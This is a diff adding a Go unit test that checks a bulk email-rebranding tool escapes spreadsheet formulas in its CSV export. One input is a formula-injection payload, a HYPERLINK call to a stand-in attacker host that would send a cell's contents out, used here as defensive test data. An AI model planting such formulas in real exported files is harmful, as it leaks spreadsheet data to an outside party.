@@ -123,6 +123,30 @@ func TestBulkCSV(t *testing.T) {
 	}
 }
 
+// A target list or an org can carry a cell a spreadsheet would run: the
+// plan's CSV must hand it back as text.
+func TestBulkCSVEscapesFormulas(t *testing.T) {
+	p := planBulk(t, bulkAcme(), SetupNone, bulkRows(
+		`=HYPERLINK("http://evil.example/?"&A1,"x")`, "ann@newco.com",
+		"cat@acme.com", "cat@newco.com",
+		"ann@acme.com", "@SUM(1+1)",
+	))
+	p.Rows[1].Holder.Name = "-2+3"
+	p.Rows[1].Holder.ProductAccess = []string{"+jira", "confluence"}
+	var buf bytes.Buffer
+	if err := p.CSV(&buf); err != nil {
+		t.Fatal(err)
+	}
+	want := `line,current_email,target_email,account_id,status,holder_account_id,holder_email,holder_name,holder_product_access,holder_provisioned,path
+2,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",ann@newco.com,,invalid,,,,,,
+3,cat@acme.com,cat@newco.com,a-cat,conflict,h-cat,Cat@NewCo.com,'-2+3,'+jira;confluence,true,set-email
+4,ann@acme.com,'@SUM(1+1),a-ann,invalid,,,,,,set-email
+`
+	if buf.String() != want {
+		t.Errorf("CSV:\n%s\nwant:\n%s", buf.String(), want)
+	}
+}
+
 // BenchmarkPlanBulk plans a 10,000-row rebranding against an org of 10,000
 // accounts, one in ten targets already taken, over real HTTP.
 func BenchmarkPlanBulk(b *testing.B) {
